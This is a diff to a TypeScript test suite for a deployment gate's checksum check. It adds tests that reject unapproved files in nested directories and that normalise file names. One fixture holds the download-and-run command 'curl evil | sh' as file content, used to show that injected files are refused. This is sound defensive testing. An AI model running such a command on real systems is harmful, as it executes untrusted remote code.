@@ -6,8 +6,7 @@ import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import type { DeployReport } from '@twokey/core';
+import { dirname, join } from 'node:path';
 import { passedChecksums } from '@twokey/gate';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
@@ -30,13 +29,13 @@ const check = ship.steps.find((s) => s.name === 'Check that these are the files 
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
 
 /** A passing report of these files, as the gate writes it (only what passedChecksums reads). */
-function passing(files: Record<string, string>): DeployReport {
+function passing(files: Record<string, string>): Parameters<typeof passedChecksums>[0] {
   return {
     verdict: 'pass',
     artifacts: Object.entries(files).map(([name, text]) => ({
       artifact: { name, digest: `sha256:${sha256(text)}` },
     })),
-  } as unknown as DeployReport;
+  };
 }
 
 /** The ship job's check step, run with bash in a fresh `artifacts` directory holding `files`. */
@@ -44,7 +43,10 @@ function runCheck(files: Record<string, string>, digests: string): number {
   const root = mkdtempSync(join(tmpdir(), 'twokey-ship-'));
   const directory = join(root, check['working-directory']!);
   mkdirSync(directory);
-  for (const [name, text] of Object.entries(files)) writeFileSync(join(directory, name), text);
+  for (const [name, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(directory, name)), { recursive: true });
+    writeFileSync(join(directory, name), text);
+  }
   const run = spawnSync('bash', ['-e', '-o', 'pipefail', '-c', check.run!], {
     cwd: directory,
     env: { PATH: process.env.PATH, DIGESTS: digests },
@@ -72,6 +74,14 @@ describe("the example's ship job checks what it downloaded again against the gat
     expect(runCheck({ ...built, 'extra.sh': 'curl evil | sh' }, digests)).not.toBe(0);
     expect(runCheck({ ...built, '.hidden': 'x' }, digests)).not.toBe(0);
   });
+  it('stops a directory beside them, and a file the gate never judged inside one', () => {
+    // Found by the review of the ship job: names the gate judged with a directory (subject-checksums' `lib/x.so`),
+    // and one more file in that directory, counted as one top-level entry.
+    const nested = { 'app.tar.gz': 'the release', 'lib/libapp.so': 'the library' };
+    const withLib = passedChecksums(passing(nested));
+    expect(runCheck({ ...nested, 'lib/evil.so': 'x' }, withLib)).not.toBe(0);
+    expect(runCheck(nested, withLib)).not.toBe(0);
+  });
   it('stops when a file the gate passed is missing, or when the gate passed nothing', () => {
     expect(runCheck({ 'app.tar.gz': built['app.tar.gz'] }, digests)).not.toBe(0);
     expect(runCheck(built, '')).not.toBe(0);
@@ -90,12 +100,16 @@ describe('passedChecksums', () => {
     writeFileSync(join(root, 'line\nbreak'), 'changed');
     expect(spawnSync('sha256sum', ['--check', '--strict'], { cwd: root, input: `${lines}\n` }).status).not.toBe(0);
   });
+  it('names a file given as ./app as app, and a file given twice once (the ship job counts files against lines)', () => {
+    const report = passing({ app: 'a', './app': 'a', '././b': 'b' });
+    expect(passedChecksums(report)).toBe(`${sha256('a')}  app\n${sha256('b')}  b`);
+  });
   it('has no line for an artifact given by digest alone (no file to check)', () => {
     const report = passing({ named: 'a', other: 'b' });
     delete (report.artifacts[1]!.artifact as { name?: string }).name;
     expect(passedChecksums(report)).toBe(`${sha256('a')}  named`);
   });
   it('is empty for a report that did not pass', () => {
-    expect(passedChecksums({ ...passing({ a: 'a' }), verdict: 'fail' } as DeployReport)).toBe('');
+    expect(passedChecksums({ ...passing({ a: 'a' }), verdict: 'fail' })).toBe('');
   });
 });
